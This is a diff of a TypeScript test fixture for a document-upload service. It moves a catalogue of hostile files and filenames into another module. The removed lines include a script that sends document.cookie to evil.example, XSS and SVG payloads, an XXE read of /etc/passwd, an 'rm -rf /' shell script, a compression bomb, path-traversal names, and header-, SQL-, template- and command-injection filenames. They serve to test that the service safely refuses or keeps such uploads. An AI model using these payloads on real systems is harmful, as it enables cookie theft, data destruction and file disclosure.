@@ -1,4 +1,3 @@
-import { deflateSync, gzipSync } from 'node:zlib'
 import {
   chunk,
   compoundOf,
@@ -11,6 +10,7 @@ import {
 } from '../../../modules/documents/testing/files.ts'
 import { docxOf, letter, part, zipOf } from '../../../modules/documents/testing/zips.ts'
 import { EICAR } from '../../../modules/platform/testing/fake-clamd.ts'
+import { ENDINGS, HTML, NAMES, OTHERS } from './disguises.ts'
 
 /** A file somebody means ill with, and what may become of it: `refused` is all that may, or it is kept as well. */
 export interface HostileFile {
@@ -21,9 +21,6 @@ export interface HostileFile {
   readonly may: 'be refused' | 'be either' | 'be kept'
 }
 
-const HTML = '<!doctype html><html><script>fetch("//evil.example?"+document.cookie)</script></html>'
-const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
-
 const GOOD = {
   pdf: pdfOf('3 0 obj\n<</Type/Page>>\nendobj'),
   jpg: jpegOf({ between: [exif(6)] }),
@@ -33,27 +30,6 @@ const GOOD = {
 }
 const KINDS = Object.keys(GOOD) as readonly (keyof typeof GOOD)[]
 const TYPES = ['', 'application/octet-stream'] as const
-
-/** What other things begin as, and pretend not to. */
-const OTHERS: Readonly<Record<string, Buffer>> = {
-  html: Buffer.from(HTML),
-  'html after spaces': Buffer.from(`${' '.repeat(2000)}${HTML}`),
-  'html in UTF-16': Buffer.from(`\ufeff${HTML}`, 'utf16le'),
-  svg: Buffer.from(SVG),
-  xml: Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
-  script: Buffer.from('#!/bin/sh\nrm -rf /\n'),
-  program: Buffer.concat([Buffer.from('MZ\u0090'), Buffer.alloc(500)]),
-  elf: Buffer.concat([Buffer.from('\u007fELF'), Buffer.alloc(500)]),
-  gif: Buffer.from(`GIF89a/*${SVG}*/=1;alert(1)`),
-  webp: Buffer.from('RIFF\u0010\0\0\0WEBPVP8 '),
-  rtf: Buffer.from('{\\rtf1\\object\\objdata 01}'),
-  gzip: gzipSync(Buffer.alloc(1_000_000)),
-  zlib: deflateSync(Buffer.alloc(1000)),
-  eicar: Buffer.from(EICAR),
-  zeros: Buffer.alloc(70_000),
-  'one byte': Buffer.from('%'),
-  nothing: Buffer.alloc(0),
-}
 
 const disguised = (): HostileFile[] =>
   Object.entries(OTHERS).flatMap(([what, content], n) =>
@@ -85,8 +61,6 @@ const declared = (): HostileFile[] =>
     ],
   )
 
-const ENDINGS = ['.html', '.svg', '.exe', '.pdf.exe', '.pdf.', '.pdf::$DATA', '.pdf/', '.docm', '.', '']
-
 const ended = (): HostileFile[] =>
   ENDINGS.map((ending) => ({
     why: `ending ${ending}`,
@@ -95,50 +69,6 @@ const ended = (): HostileFile[] =>
     content: GOOD.pdf,
     may: 'be refused',
   }))
-
-const NAMES = [
-  '../../../etc/passwd.pdf',
-  '..\\..\\windows\\system32\\a.pdf',
-  '/etc/cron.d/a.pdf',
-  'C:\\autoexec.pdf',
-  '\u202efdp.exe.pdf',
-  '\u2066invoice\u2069.pdf',
-  'invoice\u200f.pdf',
-  'a\u0000b.pdf',
-  'a\u0007\u001bb.pdf',
-  'a\r\nSet-Cookie: a=b.pdf',
-  'a\u2028b\u2029.pdf',
-  `a'; filename*=UTF-8''evil.html; x='.pdf`,
-  'a%22%0d%0aX-Evil: 1.pdf',
-  '<img src=x onerror=alert(1)>.pdf',
-  '"><script>alert(1)</script>.pdf',
-  '${7*7}{{7*7}}.pdf',
-  "'; drop table document_list; --.pdf",
-  'CON.pdf',
-  'aux .pdf',
-  '.pdf',
-  '.htaccess.pdf',
-  '-rf.pdf',
-  '~root.pdf',
-  '`id`.pdf',
-  '|cat.pdf',
-  '=cmd|calc!A1.pdf',
-  'a?.pdf',
-  'a*b:c.pdf',
-  `${'a'.repeat(250)}.pdf`,
-  `${'ä'.repeat(400)}.pdf`,
-  `${'🦷'.repeat(120)}.pdf`,
-  'e\u0301\u0300\u0302.pdf',
-  'бюллетень.pdf',
-  '診断書.pdf',
-  'תוצאות.pdf',
-  'a b  c.PDF',
-  'x.html.pdf',
-  '\ufeffa.pdf',
-  '\ufffd.pdf',
-  'constructor.pdf',
-  '__proto__.pdf',
-]
 
 const named = (): HostileFile[] =>
   NAMES.map((name) => ({ why: `name ${name}`, name, type: '', content: GOOD.pdf, may: 'be either' }))
